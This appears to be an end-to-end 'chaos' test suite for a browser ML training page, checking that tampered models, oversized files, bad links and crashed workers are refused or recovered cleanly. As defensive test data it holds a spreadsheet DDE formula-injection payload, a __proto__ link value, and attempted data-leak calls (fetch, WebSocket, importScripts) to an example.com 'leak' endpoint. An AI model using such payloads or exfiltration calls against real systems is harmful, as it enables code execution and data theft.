// The "chaos" suite of issue 17, in headless Chromium: each finding of the
// probe reproduced against the page, which must answer with one clear
// message and keep working (train again without a reload).
//   1. a network too wide for the tab → a size message, then a normal run;
//   2. the tampered-model corpus (tests/data/tampered_models) → each file
//      refused on the Score tab with the words the CLI and library use;
//   3. formulas in an id column → neutralised in the downloaded predictions;
//   6. a 50 MB line of 6.7 M fields and a 50 MB cell → refused quickly,
//      the message short, the page usable;
//   8. hostile links (#weight=__proto__, #seed=1e300, #c=1e-320, a 2 MB
//      label) → a plain reason and the defaults; infinite cells and an
//      empty column → reported and the empty column left out; the worker
//      holding the data tries fetch, XHR, WebSocket, EventSource,
//      importScripts, a worker and import() to another origin → all fail
//      and nothing reaches the network.
//   1/7. an injected panic, an abort, a worker killed mid-run → the worker
//      replaced (a crash report, or the watchdog), the file re-read, the
//      settings kept, one sentence shown, and the page trains again;
//   4. a second file opened during a run → no old result under it, in any
//      tab; every result view carries its file and run;
//   5. a cancel without shared memory → Train disabled until the re-read;
//      a Compare cancel keeps the Train tab's results;
//   7. the watchdog also covers a Compare run and the simple-model check,
//      and a restart keeps the settings and replays the earlier results.
// Screenshots (390 and 1440 px, light and dark) go to tests/e2e/artifacts/.
// Run: node --test tests/e2e/chaos.test.mjs (after scripts/build.sh).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ROOT, pagePolicy } from './server.mjs';
import { openPage, ARTIFACTS, showScheme } from './open_page.mjs';

const TIMEOUT = 240_000;
const CORPUS = JSON.parse(fs.readFileSync(path.join(ROOT, 'tests/data/tampered_models/corpus.json'), 'utf8'));
const MODELS = path.join(ROOT, 'tests/data/tampered_models');

let server, browser, page, tmp;
const foreign = [];
const pageErrors = [];

before(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'rareclass-chaos-'));
  ({ server, browser, page } = await openPage({ timeout: TIMEOUT, foreign, pageErrors }));
});

after(async () => {
  await browser?.close();
  await server?.close();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

/** Opens the page (with `hash`) and waits for the demo's summary. */
async function fresh(hash = '') {
  await page.goto('about:blank');
  await page.goto(server.url + hash);
  await page.waitForFunction(() => document.body.dataset.state === 'loaded');
}

/** Reads `file` through the file picker; resolves to 'loaded' or 'error'. */
async function pick(file) {
  await page.evaluate(() => { delete document.body.dataset.state; });
  await page.setInputFiles('#file', file);
  await page.waitForFunction(() => ['loaded', 'error'].includes(document.body.dataset.state));
  return page.evaluate(() => document.body.dataset.state);
}

/** Clicks Train; resolves to the run's end state ('done', 'train-error', 'cancelled'). */
async function train() {
  await page.evaluate(() => { delete document.body.dataset.train; });
  await page.locator('#train').click();
  await page.waitForFunction(() => ['done', 'train-error', 'cancelled'].includes(document.body.dataset.train));
  return page.evaluate(() => document.body.dataset.train);
}

async function openModel(file) {
  await page.locator('#tab-score').click();
  await page.evaluate(() => { delete document.body.dataset.model; });
  await page.locator('#model-file').setInputFiles(file);
  await page.waitForFunction(() => document.body.dataset.model);
  return page.evaluate(() => document.body.dataset.model);
}

async function shots(name) {
  for (const width of [390, 1440]) {
    await page.setViewportSize({ width, height: 900 });
    // The page fits the viewport: nothing (the tab bar once) makes it wider than a phone.
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(wide <= width, `${name}: the page is ${wide} px wide at ${width} px`);
    for (const scheme of ['light', 'dark']) {
      await showScheme(page, scheme);
      await page.screenshot({ path: path.join(ARTIFACTS, `${name}-${width}-${scheme}.png`), fullPage: true });
    }
  }
  await page.emulateMedia({ colorScheme: 'light' });
  await page.setViewportSize({ width: 1280, height: 900 });
}

test('finding 2: every tampered model file is refused on the Score tab with its reason', { timeout: TIMEOUT }, async () => {
  await fresh();
  assert.ok(CORPUS.length >= 16);
  for (const c of CORPUS) {
    const file = path.join(tmp, `${c.name}.json`);
    fs.writeFileSync(file, c.model);
    assert.equal(await openModel(file), 'error', c.name);
    const msg = await page.locator('#model-error').textContent();
    assert.ok(msg.startsWith(`Could not use ${c.name}.json: `), msg);
    for (const want of c.expect) assert.ok(msg.includes(want), `${c.name}: ${msg} lacks ${want}`);
    assert.equal(await page.locator('#score-data').isHidden(), true, `${c.name}: no scoring with a bad model`);
  }
  await shots('chaos-tampered-model');
  // The untouched base file is accepted.
  assert.equal(await openModel(path.join(MODELS, 'base_mlp.json')), 'ready');
});

test('finding 3: formulas in an id column are neutralised in the downloaded predictions', { timeout: TIMEOUT }, async () => {
  assert.equal(await openModel(path.join(MODELS, 'base_logistic.json')), 'ready');
  const ids = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example","y")', '+1+1', '@foo', '-3', 'plain'];
  const csv = 'id,x1,x2,color\n' + ids.map((id) => `"${id.replaceAll('"', '""')}",0.1,0.2,red\n`).join('');
  await page.evaluate(() => { delete document.body.dataset.score; });
  await page.locator('#score-file').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await page.waitForFunction(() => ['done', 'error'].includes(document.body.dataset.score));
  assert.equal(await page.evaluate(() => document.body.dataset.score), 'done');
  await page.locator('#score-id').selectOption('id');
  const [d] = await Promise.all([page.waitForEvent('download'), page.locator('#save-predictions').click()]);
  const file = path.join(tmp, 'formulas.predictions.csv');
  await d.saveAs(file);
  const lines = fs.readFileSync(file, 'utf8').trimEnd().split('\n');
  assert.equal(lines[0], 'row,id,score,label');
  assert.ok(lines[1].startsWith('1,"\'=cmd|\' /C calc\'!A0",') || lines[1].startsWith('1,\'=cmd|\' /C calc\'!A0,'), lines[1]);
  assert.ok(lines[2].startsWith('2,"\'=HYPERLINK(""http://x.example"",""y"")",'), lines[2]);
  assert.ok(lines[3].startsWith("3,'+1+1,"), lines[3]);
  assert.ok(lines[4].startsWith("4,'@foo,"), lines[4]);
  assert.ok(lines[5].startsWith('5,-3,'), lines[5]);
  assert.ok(lines[6].startsWith('6,plain,'), lines[6]);
});

test('finding 6: a 50 MB line of 6.7 M fields and a 50 MB cell are refused with short messages', { timeout: TIMEOUT }, async () => {
  await fresh();
  await page.locator('#tab-train').click();
  // 6.7 M fields of "123456," (7 bytes) on one line: 46.9 MB.
  const wide = path.join(tmp, 'wide.csv');
  fs.writeFileSync(wide, '123456,'.repeat(6_700_000) + 'y\n1\n');
  assert.equal(await pick(wide), 'error');
  let msg = await page.locator('#error').textContent();
  assert.match(msg, /^Could not read wide\.csv: CSV line 1: the row has more than 100,000 fields/);
  // A 50 MB cell on data line 3.
  const cell = path.join(tmp, 'cell.csv');
  fs.writeFileSync(cell, 'id,note,y\n1,ok,0\n2,' + 'x'.repeat(50_000_000) + ',1\n');
  assert.equal(await pick(cell), 'error');
  msg = await page.locator('#error').textContent();
  assert.match(msg, /CSV line 3, field 2 \(column "note"\): the value is over 1,048,576 bytes long/);
  assert.ok(msg.length < 400, `${msg.length} characters`);
  await shots('chaos-huge-cell');
  // The page still reads and trains.
  await page.evaluate(() => { delete document.body.dataset.state; });
  await page.locator('#demo').click();
  await page.waitForFunction(() => document.body.dataset.state === 'loaded');
  assert.equal(await train(), 'done');
});

test('a file whose table would leave the tab no room to train is refused at its first chunk, with its numbers', { timeout: TIMEOUT }, async () => {
  await fresh();
  await page.locator('#tab-train').click();
  // 2,000 rows of 31 cells "0.123456," (9 bytes: 279 a row), then zeros to
  // 2.2 GB: a sparse file (no disk used; the reader never gets that far).
  // From its size and first rows (the header's 120 bytes among them): about
  // 2.2e9 / 280 × 1.05 ≈ 8.2 million rows × 31 columns × 8 bytes ≈ 2.05 GB,
  // over the 1.75 GiB (1.88 GB) a tab reads.
  const big = path.join(tmp, 'big.csv');
  let text = `${Array.from({ length: 31 }, (_, c) => `c${c}`).join(',')}\n`;
  for (let r = 0; r < 2000; r++) {
    text += `${Array.from({ length: 31 }, (_, c) => `0.${String((r * 7919 + c * 104729) % 1_000_000).padStart(6, '0')}`).join(',')}\n`;
  }
  fs.writeFileSync(big, text);
  fs.truncateSync(big, 2_200_000_000);
  assert.equal(await pick(big), 'error');
  const msg = await page.locator('#error').textContent();
  assert.match(msg, /^Could not read big\.csv: this file is 2\.20 GB: about 8,2\d\d,\d{3} rows × 31 columns, which need about 2\.0\d GB in memory, more than the 1\.88 GB a browser tab can hold with room left to train on it/);
  // Refused before the read: the file holds 2,000 rows, so "about 8.2
  // million" can only come from the estimate made at its first chunk (a
  // table read to the end would count its rows, or fail on the zeros).
  fs.unlinkSync(big);
  await shots('chaos-too-big');
  // The page still reads and trains.
  await page.evaluate(() => { delete document.body.dataset.state; });
  await page.locator('#demo').click();
  await page.waitForFunction(() => document.body.dataset.state === 'loaded');
  assert.equal(await train(), 'done');
});

test('finding 8: hostile links get a plain reason and the defaults', { timeout: TIMEOUT }, async () => {
  for (const [hash, want] of [
    ['#weight=__proto__', /"weight" must be one of none, balanced, .*not "__proto__"/],
    ['#seed=1e300', /"seed" must be a whole number from 0 to 9007199254740991, not "1e300"/],
    ['#c=1e-320', /"c" must be a number from 0\.000001 to 1000000, not "1e-320"/],
    [`#label=${'a'.repeat(2_000_000)}`, /it is 2,000,006 characters long; a settings link has at most 8,192/],
  ]) {
    await fresh(hash);
    await page.waitForFunction(() => !document.getElementById('link-error').hidden);
    const msg = await page.locator('#link-error').textContent();
    assert.match(msg, want, hash.slice(0, 40));
    assert.ok(msg.length < 300, `${msg.length} characters`);
    assert.equal(await page.locator('#seed').inputValue(), '42');
    assert.equal(await page.locator('#weight').inputValue(), 'none');
  }
  await shots('chaos-bad-link');
});

test('finding 8: infinite cells and an empty column are reported; the empty column is left out', { timeout: TIMEOUT }, async () => {
  await fresh();
  const file = path.join(tmp, 'inf.csv');
  let csv = 'x,big,empty,y\n';
  // Scrambled values, not row counters: the data check would leave out a
  // counter (id-like-column) and then no feature would be left to train on.
  for (let i = 0; i < 200; i++) csv += `${(i * 37) % 101},${i % 50 === 0 ? (i % 100 ? '1e400' : 'inf') : ((i * 53) % 97) * 2},,${i % 10 === 0 ? 1 : 0}\n`;
  fs.writeFileSync(file, csv);
  assert.equal(await pick(file), 'loaded');
  const notes = await page.locator('#read-notes li').allTextContents();
  assert.ok(notes.some((n) => /column "big": 4 cells are infinite/.test(n)), notes.join(' | '));
  assert.ok(notes.some((n) => /column "empty" has no values: it is left out of the features/.test(n)), notes.join(' | '));
  const row = page.locator('#columns tbody tr[data-column="big"] td');
  assert.equal(await row.nth(1).locator('select').inputValue(), 'numeric');
  assert.equal(await page.locator('#columns tbody tr[data-column="empty"] .use').isChecked(), false);
  await shots('chaos-read-notes');
  assert.equal(await train(), 'done');
});

test('finding 1: a network too wide for the tab is refused with its size, then the page trains', { timeout: TIMEOUT }, async () => {
  await fresh();
  await page.locator('#tab-train').click();
  await page.locator('#model-kind').selectOption('mlp');
  await page.locator('#mlp-hidden').fill('60000,60000');
  await page.locator('#mlp-hidden').dispatchEvent('change');
  // The core refuses the spec as the page makes it (www/models.js): said
  // under the form, before any run; Train then starts none.
  await page.waitForFunction(() => !document.querySelector('#settings-error').hidden);
  const msg = await page.locator('#settings-error').textContent();
  assert.match(msg, /a network with hidden layers 60000, 60000 needs about [\d.]+ GB/);
  assert.match(msg, /use fewer or narrower hidden layers/);
  await page.locator('#mlp-hidden').fill('4');
  await page.locator('#mlp-epochs').fill('2');
  await page.locator('#mlp-epochs').dispatchEvent('change');
  assert.equal(await train(), 'done');
});

test('finding 8: the worker that holds the data cannot reach the network', { timeout: TIMEOUT }, async () => {
  await fresh();
  const worker = page.workers().find((w) => w.url().endsWith('/www/worker.js'));
  assert.ok(worker, page.workers().map((w) => w.url()).join(' '));
  const before = foreign.length;
  const tried = await worker.evaluate(async () => {
    const out = {};
    const attempt = async (name, f) => {
      try { await f(); out[name] = 'sent'; } catch (e) { out[name] = String(e.message ?? e); }
    };
    await attempt('fetch', () => fetch('http://example.com/leak?d=1'));
    await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', 'http://example.com/leak'); x.send(); });
    await attempt('websocket', () => new WebSocket('ws://example.com/leak'));
    await attempt('eventsource', () => new EventSource('http://example.com/leak'));
    await attempt('importScripts', () => importScripts('http://example.com/leak.js'));
    await attempt('worker', () => new Worker('http://example.com/leak.js'));
    // Not removable (syntax): the CSP header's script-src 'self' refuses it.
    await attempt('import', () => import('http://example.com/leak.mjs'));
    return out;
  });
  for (const [name, result] of Object.entries(tried)) {
    assert.notEqual(result, 'sent', `${name} went out`);
    if (name !== 'import') assert.match(result, /is disabled: this worker holds your data/, name);
  }
  // Nothing reached the network layer (the route guard records any attempt).
  await page.waitForTimeout(500);
  assert.deepEqual(foreign.slice(before), []);
  // And the worker still does its work.
  assert.equal(await train(), 'done');
});

/** The page with the chaos hook and a 2 s watchdog, on the demo. */
async function chaosPage(extra = '') {
  await page.goto('about:blank');
  await page.goto(`${server.url}?chaos&watchdog=2000${extra}`);
  // The page starts on the first-view module and moves to the full one
  // after its first view (www/engine_client.js): these tests harm the full one.
  await page.waitForFunction(() => document.body.dataset.state === 'loaded' && document.body.dataset.engine === 'full');
  await page.locator('#tab-train').click();
}

/** Waits for the page to have replaced its worker `n` times and re-read the file. */
async function recovered(n) {
  await page.waitForFunction((k) => Number(document.body.dataset.recovered ?? 0) >= k
    && document.body.dataset.state === 'loaded' && !document.getElementById('train').disabled, n);
}

test('finding 1: after a panic or an abort in the engine the page trains again without a reload', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  assert.equal(await train(), 'done');
  let n = 0;
  for (const kind of ['panic', 'abort']) {
    await page.evaluate((k) => self.rareclassChaos.fault(k), kind);
    await recovered(++n);
    const msg = await page.locator('#train-error').textContent();
    assert.match(msg, /^The engine stopped \(.+\) and was restarted: your file is being read again and your settings and results are kept\.$/, kind);
    if (kind === 'panic') assert.match(msg, /injected fault/);
    assert.equal(await train(), 'done', `${kind}: trains again`);
    assert.equal(await page.locator('#train-error').isHidden(), true);
  }
  await shots('chaos-recovered');
});

test('finding 7: a dead worker is noticed by the watchdog and replaced; Train works again', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.locator('#model-kind').selectOption('forest');
  await page.evaluate(() => { delete document.body.dataset.train; });
  await page.locator('#train').click();
  await page.waitForFunction(() => document.body.dataset.train === 'running');
  // The worker dies mid-run without a word (as when its process is killed).
  await page.evaluate(() => self.rareclassChaos.worker().terminate());
  await recovered(1);
  assert.match(await page.locator('#train-error').textContent(), /^The engine stopped \(it stopped answering\) and was restarted/);
  assert.equal(await page.locator('#model-kind').inputValue(), 'forest', 'settings kept');
  // The demo's first run (trained on opening) was replayed: its results are back, the killed run's are not.
  assert.equal(await page.evaluate(() => document.body.dataset.train), 'done');
  assert.equal(await page.locator('#results-body').getAttribute('data-run'), '1');
  assert.match(await page.locator('#train-status').textContent(), /^Restored your earlier results \(1 run\)\.$/);
  await page.locator('#model-kind').selectOption('logistic');
  assert.equal(await train(), 'done');
});

test('finding 4: a second file opened during training never shows the old run under its summary', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.locator('#model-kind').selectOption('forest');
  await page.evaluate(() => { delete document.body.dataset.train; });
  await page.locator('#train').click();
  await page.waitForFunction(() => document.body.dataset.train === 'running');
  const file = path.join(tmp, 'second.csv');
  let csv = 'a,b,y\n';
  for (let i = 0; i < 300; i++) csv += `${i},${(i * 7) % 13},${i % 10 === 0 ? 1 : 0}\n`;
  fs.writeFileSync(file, csv);
  assert.equal(await pick(file), 'loaded');
  // Whatever the old run does now, no result of it appears under second.csv.
  await page.waitForTimeout(1500);
  assert.equal(await page.locator('#summary-line').getAttribute('data-rows'), '300');
  assert.equal(await page.locator('#results-body').isHidden(), true);
  assert.equal(await page.evaluate(() => document.querySelectorAll('#cards .card').length === 0
    || document.getElementById('results-body').hidden), true);
  const errors = await page.locator('#train-error').textContent();
  assert.doesNotMatch(errors, /no trained model yet/);
  await page.locator('#label-col').selectOption('y');
  await page.locator('#model-kind').selectOption('logistic');
  assert.equal(await train(), 'done');
  assert.match(await page.locator('#status').textContent(), /second\.csv/);
});

test('finding 5: without shared memory, Train stays disabled while a cancel re-reads the file', { timeout: TIMEOUT }, async () => {
  await chaosPage('&nosab');
  await page.locator('#model-kind').selectOption('forest');
  await page.evaluate(() => { delete document.body.dataset.train; });
  await page.locator('#train').click();
  await page.waitForFunction(() => document.body.dataset.train === 'running');
  // From the cancel on (same task, before the File is opened again) until
  // the re-read and the replay of the earlier run are done, no run can start.
  const during = await page.evaluate(() => {
    document.getElementById('cancel').click();
    return document.getElementById('train').disabled;
  });
  assert.equal(during, true, 'Train disabled right after the cancel');
  await page.waitForFunction(() => document.body.dataset.state === 'loaded' && !document.getElementById('train').disabled);
  await page.locator('#model-kind').selectOption('logistic');
  assert.equal(await train(), 'done');
  assert.doesNotMatch(await page.locator('#train-error').textContent(), /no table yet/);
});

test('finding 1: an engine that stops again while re-reading the file is not made to read it a third time', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.waitForFunction(() => document.body.dataset.train === 'done');
  // A panic, and another in the new worker as soon as it exists (before its re-read ends).
  await page.evaluate(() => {
    new MutationObserver((_, obs) => {
      obs.disconnect();
      self.rareclassChaos.fault('panic');
    }).observe(document.body, { attributes: true, attributeFilter: ['data-recovered'] });
    self.rareclassChaos.fault('panic');
  });
  await page.waitForFunction(() => Number(document.body.dataset.recovered ?? 0) >= 2);
  await page.waitForTimeout(1000); // no third reading starts
  assert.equal(await page.evaluate(() => document.body.dataset.recovered), '2');
  assert.match(await page.locator('#train-error').textContent(),
    /^The engine stopped again \(.*injected fault.*\) while reading your file a second time: it was restarted without the file; open it again or another one\.$/);
  assert.equal(await page.locator('#train-section').isHidden(), true, 'no Train button over a table the worker lacks');
  assert.equal(await page.locator('#results-body').isHidden(), true);
  // Opening a file works again.
  await page.evaluate(() => { delete document.body.dataset.state; });
  await page.locator('#demo').click();
  await page.waitForFunction(() => document.body.dataset.state === 'loaded');
  assert.equal(await train(), 'done');
});

/** The Train tab's result view: which file and run it says it shows, and its PR-AUC card. */
async function trainView() {
  await page.waitForFunction(() => document.getElementById('results-body').hidden
    || document.querySelector('#cards [data-metric=pr_auc]'));
  return page.evaluate(() => {
    const body = document.getElementById('results-body');
    return {
      hidden: body.hidden, file: body.dataset.file ?? null, run: body.dataset.run ?? null,
      prAuc: document.querySelector('#cards [data-metric=pr_auc]')?.dataset.value ?? null,
      of: document.getElementById('results-of').textContent,
    };
  });
}

/** Starts a Compare run of the three networks for `epochs` epochs (does not wait). */
async function startCompare(epochs) {
  await page.locator('#tab-compare').click();
  await page.locator('#cmp-epochs').fill(String(epochs));
  await page.evaluate(() => { delete document.body.dataset.compare; });
  await page.locator('#cmp-train').click();
}

test('finding 4: each result view names its file and run; a new file shows none of the old one\'s results in any tab', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.waitForFunction(() => document.body.dataset.train === 'done'); // the demo's first run
  let v = await trainView();
  assert.deepEqual([v.hidden, v.file, v.run], [false, '1', '1']);
  assert.equal(v.of, 'Run 1 on lending_club.csv');
  await startCompare(1);
  await page.waitForFunction(() => document.body.dataset.compare === 'done');
  assert.equal(await page.locator('#cmp-body').getAttribute('data-file'), '1');
  assert.match(await page.locator('#cmp-of').textContent(), /^Comparison \d+ on lending_club\.csv$/);
  // The simple-model check on the Explore tab.
  await page.locator('#tab-explore').click();
  await page.evaluate(() => { delete document.body.dataset.simple; });
  await page.locator('#simple-run').click();
  await page.waitForFunction(() => document.body.dataset.simple === 'done');
  assert.equal(await page.locator('#simple-table').isHidden(), false);
  assert.equal(await page.locator('#simple-table').getAttribute('data-file'), '1');
  // A grid search (its own pool of workers) on the same file.
  await page.evaluate(() => { delete document.body.dataset.grid; });
  await page.locator('#grid-run').click();
  await page.waitForFunction(() => ['done', 'error'].includes(document.body.dataset.grid));
  assert.equal(await page.locator('#grid-results').getAttribute('data-file'), '1');
  // A Compare run under way on the old file when the new one is opened.
  await startCompare(200);
  await page.waitForFunction(() => document.body.dataset.compare === 'running');
  const file = path.join(tmp, 'third.csv');
  let csv = 'a,b,y\n';
  for (let i = 0; i < 400; i++) csv += `${(i * 13) % 17},${(i * 7) % 11},${i % 8 === 0 ? 1 : 0}\n`;
  fs.writeFileSync(file, csv);
  assert.equal(await pick(file), 'loaded');
  // Nothing computed on lending_club.csv is on screen now, in any tab, even after the old run ends.
  await page.waitForTimeout(1500);
  assert.equal(await page.evaluate(() => document.body.dataset.compare), 'cancelled');
  assert.equal(await page.locator('#cmp-body').isHidden(), true);
  assert.equal(await page.locator('#cmp-body').getAttribute('data-file'), null);
  v = await trainView();
  assert.deepEqual([v.hidden, v.file, v.run], [true, null, null]);
  await page.locator('#tab-explore').click();
  assert.equal(await page.locator('#simple-table').isHidden(), true);
  assert.equal(await page.locator('#grid-results').isHidden(), true);
  // The new file's own run says so.
  await page.locator('#tab-train').click();
  await page.locator('#label-col').selectOption('y');
  await page.locator('#model-kind').selectOption('logistic');
  assert.equal(await train(), 'done');
  v = await trainView();
  assert.equal(v.file, '2');
  assert.match(v.of, /^Run \d+ on third\.csv$/);
});

test('finding 5: a Compare cancel without shared memory keeps the Train tab\'s results', { timeout: TIMEOUT }, async () => {
  await chaosPage('&nosab');
  await page.waitForFunction(() => document.body.dataset.train === 'done'); // the demo's first run
  const before = await trainView();
  assert.equal(before.hidden, false);
  await startCompare(200);
  await page.waitForFunction(() => document.body.dataset.compare === 'running');
  const during = await page.evaluate(() => {
    document.getElementById('cmp-cancel').click();
    return { train: document.getElementById('train').disabled, compare: document.getElementById('cmp-train').disabled };
  });
  assert.deepEqual(during, { train: true, compare: true }, 'no run while the file is read again');
  assert.equal(await page.evaluate(() => document.body.dataset.compare), 'cancelled');
  // The worker was replaced; the file is read again and the Train run replayed.
  await page.waitForFunction(() => document.body.dataset.train === 'done' && !document.getElementById('results-body').hidden);
  const after = await trainView();
  assert.deepEqual(after, before, 'the same run, file and metrics as before the cancel');
  await page.locator('#tab-train').click();
  assert.equal(await page.locator('#train').isDisabled(), false);
  await shots('chaos-compare-cancel');
});

test('finding 7: the watchdog covers a Compare run and the simple-model check; settings and results are kept', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.waitForFunction(() => document.body.dataset.train === 'done');
  const before = await trainView();
  await page.locator('#seed').fill('7');
  await page.locator('#seed').dispatchEvent('change');
  // A Compare run whose worker dies at once (killed in the same task as the click).
  await page.locator('#tab-compare').click();
  await page.locator('#cmp-epochs').fill('1');
  await page.evaluate(() => {
    delete document.body.dataset.compare;
    document.getElementById('cmp-train').click();
    self.rareclassChaos.worker().terminate();
  });
  await recovered(1);
  assert.equal(await page.evaluate(() => document.body.dataset.compare), 'error');
  assert.match(await page.locator('#cmp-error').textContent(),
    /^The engine stopped \(it stopped answering\) and was restarted: your file is being read again and your settings and results are kept\.$/);
  assert.equal(await page.locator('#cmp-train').isDisabled(), false);
  assert.deepEqual(await trainView(), before, 'the Train tab\'s results replayed');
  assert.equal(await page.locator('#seed').inputValue(), '7', 'settings kept');
  // The same for the simple-model check.
  await page.locator('#tab-explore').click();
  await page.evaluate(() => {
    delete document.body.dataset.simple;
    document.getElementById('simple-run').click();
    self.rareclassChaos.worker().terminate();
  });
  await recovered(2);
  assert.equal(await page.evaluate(() => document.body.dataset.simple), 'error');
  assert.match(await page.locator('#simple-error').textContent(), /^The engine stopped \(it stopped answering\) and was restarted/);
  assert.equal(await page.locator('#simple-run').isDisabled(), false);
  // Both work again without a reload.
  await page.evaluate(() => { delete document.body.dataset.simple; });
  await page.locator('#simple-run').click();
  await page.waitForFunction(() => document.body.dataset.simple === 'done');
  await startCompare(1);
  await page.waitForFunction(() => document.body.dataset.compare === 'done');
  await shots('chaos-watchdog-compare');
});

test('finding 7: after a worker death the Train view (run, rows, threshold) and the comparison come back as they were', { timeout: TIMEOUT }, async () => {
  await chaosPage();
  await page.waitForFunction(() => document.body.dataset.train === 'done');
  // A second run, shown on the validation rows at threshold 0.2 (not the defaults).
  await page.locator('#model-kind').selectOption('tree');
  assert.equal(await train(), 'done');
  await page.locator('#part').selectOption('val');
  await page.locator('#threshold').fill('0.2');
  // The cards name the rows and threshold they were computed for.
  const shown = () => page.waitForFunction(() => {
    const c = document.getElementById('cards');
    return c.dataset.threshold === '0.2' && c.dataset.part === 'val' && c.querySelector('[data-metric=recall]');
  });
  await shown();
  const read = () => page.evaluate(() => ({
    run: document.getElementById('results-body').dataset.run,
    series: document.getElementById('series').value,
    part: document.getElementById('part').value,
    threshold: document.getElementById('threshold-value').textContent,
    cards: [...document.querySelectorAll('#cards .card')].map((c) => `${c.dataset.metric}=${c.dataset.value}`).join(' '),
    cardsOf: JSON.stringify(document.getElementById('cards').dataset),
    cm: document.getElementById('cm-line').textContent,
  }));
  const before = await read();
  assert.equal(before.part, 'val');
  await startCompare(1);
  await page.waitForFunction(() => document.body.dataset.compare === 'done' && document.querySelector('#cmp-table tbody tr'));
  const table = () => page.evaluate(() => ({
    run: document.getElementById('cmp-body').dataset.run,
    rows: [...document.querySelectorAll('#cmp-table tbody tr')].map((r) => r.textContent).join(' | '),
  }));
  const cmpBefore = await table();
  // The worker dies while idle; the next request goes unanswered and the watchdog notices.
  await page.evaluate(() => self.rareclassChaos.worker().terminate());
  await page.locator('#tab-train').click();
  await page.locator('#threshold').fill('0.21'); // a view request the dead worker never answers
  await page.locator('#threshold').fill('0.2');
  await recovered(1);
  await page.waitForFunction(() => !document.getElementById('results-body').hidden);
  await shown();
  await page.waitForFunction(() => document.body.dataset.compare === 'done' && !document.getElementById('cmp-body').hidden
    && document.querySelector('#cmp-table tbody tr'));
  assert.deepEqual(await read(), before);
  assert.deepEqual(await table(), cmpBefore);
});

test('scripts/serve.sh sends index.html\'s CSP as a header, so it covers the workers', () => {
  const text = fs.readFileSync(path.join(ROOT, 'scripts/serve.sh'), 'utf8');
  const sent = /send_header\("Content-Security-Policy", "([^"]+)"\)/.exec(text);
  assert.ok(sent, 'serve.sh sends no Content-Security-Policy header');
  assert.equal(sent[1], pagePolicy());
  assert.match(sent[1], /connect-src 'self'/);
  assert.match(sent[1], /worker-src 'self'/);
});

test('nothing left the machine and no page error was thrown', () => {
  assert.deepEqual(foreign, []);
  assert.deepEqual(pageErrors, []);
});
